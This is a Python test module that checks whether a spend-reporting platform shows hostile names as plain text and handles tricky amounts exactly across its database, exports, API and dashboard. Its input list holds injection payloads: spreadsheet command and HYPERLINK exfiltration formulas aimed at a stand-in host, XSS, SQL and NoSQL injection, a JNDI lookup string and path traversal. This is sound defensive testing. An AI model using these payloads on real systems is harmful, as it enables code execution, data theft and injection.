"""Hostile names and amounts from a file to everything that people look at.

One small file goes through MongoDB, both engines and PostgreSQL to the exports, the API and the
dashboard. Names are shown as what they are and run nowhere; amounts are exact, or refused.
"""

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from pyspark.sql import SparkSession
from typer.testing import CliRunner

from txplatform import embedded
from txplatform.cli.app import app
from txplatform.domains.spend import computation, publishing, tables
from txplatform.domains.spend.settings import SpendSettings
from txplatform.domains.spend.sources.ingest import ingest_file
from txplatform.domains.spend.sources.layouts import load_layout
from txplatform.domains.spend.sources.quarantine import refused_rows
from txplatform.domains.spend.sources.records import Policy
from txplatform.orchestration import metadata
from txplatform.serving.api.app import build
from txplatform.settings import Settings
from txplatform_tests.conftest import new_platform
from txplatform_tests.domains.spend.pages.office import Office, office_of
from txplatform_tests.serving.pages import figures, plain, tables_of
from txplatform_tests.serving.running import calling

MONDAY = date(2026, 11, 9)
POLICY = Policy(last_day=date(2026, 11, 23), card_identity="plain")
WEEK = {"from": str(MONDAY), "to": str(MONDAY)}
HEADER = ("date", "department", "division", "merchant", "category", "amount")
NAMES = (
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"Total")', "+1+1", "-2+3", "@SUM(A1:A9)"),
    *("\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH COMMERCIAL AT}A1"),
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "&lt;b&gt; &amp; &#60;"),
    *("'; DROP TABLE weekly_transactions; --", "Robert'); --", "100%_\\", '{"$ne": null}'),
    *("$where", "$department", "$$ROOT", "a.b.c", "__proto__", "constructor", "{{7*7}}"),
    *("${jndi:ldap://x}", "[a](javascript:alert(1))", ":red[x] :smile:", "$x^2$ **b** | c", "# h"),
    *("NULL", "None", "NaN", "\\N", "\\.", "0012", "1e5", "TRUE", "../../etc/passwd", "%s%n%00"),
    *("\N{ARABIC-INDIC DIGIT FOUR}\N{ARABIC-INDIC DIGIT TWO}", "עברית العربية", "a,b;c\td"),
)
"""Kept as they are, but for white space; each is a department, a division, a merchant..."""

FORMULA_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
SPELLINGS = (
    *("Roads", " Roads\t", "Ro\u200bads", "\u202eRoads\u202c", "Roads\u200f", "\ufeffRoads"),
    *("Ro\u00adads", "Roads\x07", "\x1b\u2066Roads", "Roa\u2060ds\r\n"),
)
"""Control and format characters are dropped: one department."""

CAFES = ("Caf\u00e9  noir", "Cafe\u0301\nnoir", "Cafe\u0301\u00a0noir", "Caf\u00e9\u2003\x0bnoir")
AMOUNTS = {
    "0.01": "0.01",
    "10000000000000": "10000000000000.00",
    "-0.00": "0.00",
    "$1,620.00": "1620.00",
    "(15.75)": "-15.75",
    "9999999999.99-": "-9999999999.99",
}
"""As written: as they count."""

REFUSED = {
    "1e5": "AMOUNT_TEXT",
    "NaN": "AMOUNT_TEXT",
    "Infinity": "AMOUNT_TEXT",
    "\N{ARABIC-INDIC DIGIT FOUR}\N{ARABIC-INDIC DIGIT TWO}": "AMOUNT_DIGITS",
    "\N{FULLWIDTH DIGIT ONE}2": "AMOUNT_DIGITS",
    "5.285": "AMOUNT_DECIMALS",
    "12,34,5": "AMOUNT_GROUPING",
    "1" * 17: "AMOUNT_RANGE",
    "=1+1": "AMOUNT_TEXT",
    "<b>5</b>": "AMOUNT_TEXT",
    "": "AMOUNT_EMPTY",
}
"""As written: the rule that refuses them."""

TOTAL = sum(map(Decimal, AMOUNTS.values()), Decimal(0))
Cells = dict[tuple[str, str], Decimal]


def lines() -> Iterator[tuple[str, ...]]:
    """The rows of the file."""
    day = str(MONDAY)
    for number, (name, other) in enumerate(zip(NAMES, reversed(NAMES), strict=True), 1):
        yield day, name, other, name, other, f"{number}.10"
    for name in SPELLINGS:
        yield day, name, "Signs", name, name, "0.10"
    for name in CAFES:
        yield day, "Canteens", name, name, name, "0.20"
    for amount in (*AMOUNTS, *REFUSED):
        yield day, "Amounts", "=1+1", "Shop", "Tools", amount


def expected() -> Cells:
    """The total of every department and division, by hand."""
    shown = [" ".join(name.split()) for name in NAMES]
    pairs = zip(shown, reversed(shown), strict=True)
    cells = {pair: Decimal(f"{number}.10") for number, pair in enumerate(pairs, 1)}
    cells["Roads", "Signs"] = len(SPELLINGS) * Decimal("0.10")
    cells["Canteens", "Café noir"] = len(CAFES) * Decimal("0.20")
    return cells | {("Amounts", "=1+1"): TOTAL}


@pytest.fixture(scope="module")
def office(
    settings: Settings,
    endpoints: embedded.Endpoints,
    spark: SparkSession,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Office]:
    """An office whose file was taken in, and whose week both engines have computed."""
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "=cmd <b>.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([HEADER, *lines()])
    with (
        new_platform(settings, endpoints, folder / "lake") as platform,
        pytest.MonkeyPatch.context() as monkeypatch,
        office_of(platform, monkeypatch, "USD") as office,
    ):
        ingest_file(office.platform.database, path, load_layout("generic"), POLICY)
        office.note()
        _compute(office, spark)
        yield office


def _compute(office: Office, spark: SparkSession) -> None:
    """Publish what each engine computes; the second finds everything as it is."""
    platform, changed = office.platform, []
    of_mongo = platform.settings
    for engine in ("spark", "mongo"):
        platform.settings = of_mongo.having(SpendSettings, engine=engine)
        rows = computation.compute(platform, lambda: spark, [MONDAY])
        changed.append(publishing.publish(platform.engine, rows, engine)[MONDAY])
    platform.settings = of_mongo
    assert [(one.inserted, one.unchanged) for one in changed] == [
        (len(expected()), 0),
        (0, len(expected())),
    ]


def test_the_table_has_every_name_and_every_digit(office: Office) -> None:
    with office.platform.engine.connect() as connection:
        found = connection.execute(tables.weekly_transactions.select()).all()

    assert {(one.department, one.division): one.total_amount for one in found} == expected()
    assert sum(one.transaction_count for one in found) == len(list(lines())) - len(REFUSED)
    assert str(TOTAL) == "9990000001604.27"


def test_what_is_refused_says_why_and_keeps_its_text(office: Office) -> None:
    refused = refused_rows(office.platform.database, None, 100)

    assert Counter(one["rule"] for one in refused) == Counter(REFUSED.values())
    for one in refused:
        written = next(csv.reader([str(one["text"])]))[-1]
        assert REFUSED[written] == one["rule"]
        assert one["reason"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_of_an_export_runs(office: Office, tmp_path: Path, kind: str) -> None:
    target = tmp_path / f"weekly.{kind}"

    assert office
    done = CliRunner().invoke(app, ["spend", "export", "weekly-transactions", "-o", str(target)])

    assert done.exit_code == 0, done.output
    assert (_cells_of_csv if kind == "csv" else _cells_of_workbook)(target) == expected()


def _cells_of_csv(path: Path) -> Cells:
    with path.open(encoding="utf-8", newline="") as file:
        return _cells(csv.DictReader(file))


def _cells(rows: Any) -> Cells:
    """Totals by name; a name that looked like a formula has an apostrophe before it, and no other.

    Tab and line breaks cannot begin a name, so what a spreadsheet may take for a formula is known.
    """
    found: Cells = {}
    for row in rows:
        names = []
        for written in (row["department"], row["division"]):
            assert not written.startswith(FORMULA_STARTS), written
            names.append(written[written[:1] == "'" and written[1:].startswith(FORMULA_STARTS) :])
        found[names[0], names[1]] = Decimal(row["total_amount"])
    return found


def _cells_of_workbook(path: Path) -> Cells:
    header, *rows = openpyxl.load_workbook(path).active.iter_rows()
    at = {cell.value: number for number, cell in enumerate(header)}
    found: Cells = {}
    for row in rows:
        names = [row[at[name]] for name in ("department", "division")]
        assert [(one.data_type, one.hyperlink) for one in names] == [("s", None)] * 2
        found[names[0].value, names[1].value] = Decimal(str(row[at["total_amount"]].value))
    return found


def test_the_api_shows_and_finds_every_name(office: Office) -> None:
    with calling(build(office.platform)) as api:
        rows = api.get("/spend/weekly-transactions", params=WEEK).json()["items"]
        written = api.get("/spend/weekly-transactions", params=WEEK, headers={"Accept": "text/csv"})
        assert all(_is_found(api, *pair) for pair in expected())

    assert {
        (row["department"], row["division"]): Decimal(row["total_amount"]) for row in rows
    } == expected()
    assert _cells(csv.DictReader(io.StringIO(written.text))) == expected()


def _is_found(api: httpx.Client, department: str, division: str) -> bool:
    """Whether a name as a filter finds its own row and its own purchases, and no other."""
    names = {"department": department, "division": division}
    rows = api.get("/spend/weekly-transactions", params=WEEK | names).json()["items"]
    bought = api.get("/spend/transactions", params={"week": str(MONDAY)} | names).json()["items"]
    total = sum(Decimal(one["amount"]) for one in bought)
    return (
        [(one["department"], one["division"]) for one in rows] == [(department, division)]
        and {(one["department"], one["division"]) for one in bought} == {(department, division)}
        and Decimal(rows[0]["total_amount"]) == total == expected()[department, division]
    )


def test_the_dashboard_shows_names_as_text(office: Office) -> None:
    page = office.page("departments", from_=str(MONDAY), to=str(MONDAY))

    [table] = tables_of(page)
    shown = zip(table["Department"], table["Division"], strict=True)
    assert set(shown) == {(plain(one), plain(other)) for one, other in expected()}
    written = "".join(cell for _, column in page.table[0].value.items() for cell in column)
    assert active_in(written) == []


def test_the_dashboard_shows_every_digit_and_what_was_refused(office: Office) -> None:
    page = office.page(
        "why", from_=str(MONDAY), to=str(MONDAY), department="Amounts", division="=1+1"
    )

    assert figures(page)["Net total"] == "$9,990,000,001,604.27"
    purchases = next(one for one in tables_of(page) if "Amount" in one)
    assert Counter(purchases["Amount"]) == Counter(
        f"{'-' * (one < 0)}${abs(one):,}" for one in map(Decimal, AMOUNTS.values())
    )
    refused = next(one for one in tables_of(page) if "Rule" in one)
    assert Counter(refused["Rule"]) == Counter(REFUSED.values())
    assert all(refused["Reason"])


def active_in(markdown: str) -> list[str]:
    """Signs that Markdown or markup would act on, because nothing escapes them."""
    return re.findall(r"[`*_\[\]<>|~$&]", re.sub(r"\\.", "", markdown))


@pytest.mark.parametrize("name", NAMES)
def test_dagsters_preview_shows_names_as_text(name: str) -> None:
    written = metadata.cell(name)

    assert plain(written) == plain(name)
    assert active_in(written) == []
